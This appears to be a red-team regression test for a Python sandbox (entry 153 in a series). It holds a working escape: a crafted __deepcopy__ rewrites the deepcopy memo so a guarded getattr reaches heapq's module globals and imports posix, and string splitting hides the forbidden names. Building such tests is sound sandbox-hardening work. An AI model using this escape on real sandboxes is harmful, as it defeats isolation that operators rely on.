# copy._reconstruct is patched to check a reduce value's getattr name (bypass 131's fix), but it
# checks args BEFORE the library deep-copies them: deepcopy(args, memo) first looks every element
# up in memo by id(). memo is the job's to write: any object deep-copied earlier in the same
# call receives it in its __deepcopy__. Enum's __reduce_ex__ returns (getattr, (self.__class__,
# self._name_)); the class property (functional API, as in 131) returns a job object whose
# __deepcopy__ maps id(_name_) -> "__globals__" and returns heapq.merge. The check saw
# "value"; the real getattr got (heapq.merge, "__globals__"): heapq's module globals.
# Found by a fifth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "153_deepcopy_memo_swaps_checked_args"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import copy
import enum
import heapq

state = {"on": False}
checked_name = "value"  # what the guard's check sees


class Swap:
    def __deepcopy__(self, memo):
        memo[id(checked_name)] = "__glo" + "bals__"  # what the real getattr gets
        return heapq.merge


swap = Swap()


def cls_of(self):
    return swap if state["on"] else type(self)


E = enum.Enum("E", [("A", 1), ("__cl" + "ass__", property(cls_of))])
m = E.A
m._name_ = checked_name
state["on"] = True
try:
    glb = copy.deepcopy(m)
finally:
    state["on"] = False
posix = glb["__buil" + "tins__"]["__imp" + "ort__"]("posix")
won("globals_of=%s posix.getpid()=%s" % (glb["__name__"], posix.getpid()))
